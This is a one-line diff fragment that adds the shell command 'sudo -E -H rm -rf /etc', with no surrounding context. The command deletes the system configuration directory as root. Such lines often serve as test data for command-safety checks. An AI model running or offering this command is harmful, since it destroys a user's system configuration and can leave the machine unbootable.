@@ -1,0 +1,1 @@
+sudo -E -H rm -rf /etc
